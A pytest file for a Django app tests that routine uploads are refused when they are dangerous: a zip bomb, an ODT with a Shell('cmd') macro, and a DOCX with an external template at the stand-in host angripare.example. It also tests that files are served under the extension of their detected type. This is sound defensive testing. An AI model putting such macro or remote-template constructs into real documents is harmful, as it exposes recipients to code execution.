"""Issue 10 items 10 and 11 for routines: a zip bomb, an ODT with macros and a DOCX with an external
template are refused with a field message and nothing is stored or written; a document is stored
and served under a name with the extension of its detected type."""

from __future__ import annotations

import datetime
import io
import zipfile

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.urls import reverse

from lis.core import uploads
from lis.core.models import ChangeLogEntry
from lis.plans import services
from lis.plans.models import Routine

PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
ODT_MIMETYPE = "application/vnd.oasis.opendocument.text"


@pytest.fixture(autouse=True)
def today(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    with time_machine.travel(datetime.datetime(2026, 12, 1, 10, 0, tzinfo=datetime.UTC), tick=False):
        yield


@pytest.fixture
def routine(amal):
    services.routines_ensure_required()
    return Routine.objects.get(key="licence_management")


def _zip(members: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _bomb() -> bytes:
    return _zip({"mimetype": b"\0" * 300_000, "content.xml": "<office:document-content/>"})


def _odt_with_macros() -> bytes:
    return _zip(
        {
            "mimetype": ODT_MIMETYPE,
            "content.xml": "<office:document-content/>",
            "Basic/Standard/Module1.xml": "<script:module>Sub Main: Shell(&quot;cmd&quot;): End Sub</script:module>",
        }
    )


def _docx_with_external_template() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<w:document/>",
            "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="file://angripare.example/mall.dotm" TargetMode="External"/>'
            "</Relationships>",
        }
    )


@pytest.mark.parametrize(
    ("make", "name", "message"),
    [
        (_bomb, "rutin.odt", "Filen packas upp till mer än 195,3\u00a0kB och läses inte in."),
        (_odt_with_macros, "rutin.odt", "Dokumentet innehåller makron och tas inte emot."),
        (_docx_with_external_template, "rutin.docx", "Dokumentet hämtar innehåll utanför filen"),
    ],
    ids=["zip-bomb", "odt-macros", "docx-external-template"],
)
def test_it_refuses_a_dangerous_document_with_a_field_message_and_stores_nothing(
    routine, personas, settings, monkeypatch, make, name, message
):
    monkeypatch.setattr(uploads, "MAX_UNCOMPRESSED_BYTES", 200_000)
    before = ChangeLogEntry.objects.count()
    with pytest.raises(ValidationError) as refused:
        services.routine_update(actor=personas["strategist"].user, routine=routine, upload=(name, make()))
    assert message in refused.value.error_dict["file"][0].message
    routine.refresh_from_db()
    assert not routine.file and routine.status == "missing"
    assert ChangeLogEntry.objects.count() == before
    stored = settings.MEDIA_ROOT / "routines"
    assert not stored.exists() or not any(stored.iterdir())


def test_it_stores_and_serves_a_pdf_uploaded_as_docx_under_a_pdf_name(routine, personas):
    strategist = personas["strategist"]
    services.routine_update(actor=strategist.user, routine=routine, upload=("Licensrutin.docx", PDF))
    routine.refresh_from_db()
    assert (routine.file_type, routine.file_name) == ("pdf", "Licensrutin.pdf")
    assert routine.file.name.startswith("routines/") and routine.file.name.endswith(".pdf")
    assert "Licensrutin" not in routine.file.name
    download = strategist.client().get(reverse("plans:routine_file", args=[routine.pk]))
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"] == 'attachment; filename="Licensrutin.pdf"'
    assert download.content == PDF


def test_it_serves_a_document_stored_under_a_misleading_name_with_the_extension_of_its_type(routine, personas):
    strategist = personas["strategist"]
    services.routine_update(actor=strategist.user, routine=routine, upload=("Licensrutin.pdf", PDF))
    Routine.objects.filter(pk=routine.pk).update(file_name="Licensrutin.docx")  # stored before the names were fixed
    download = strategist.client().get(reverse("plans:routine_file", args=[routine.pk]))
    assert download["Content-Disposition"] == 'attachment; filename="Licensrutin.pdf"'
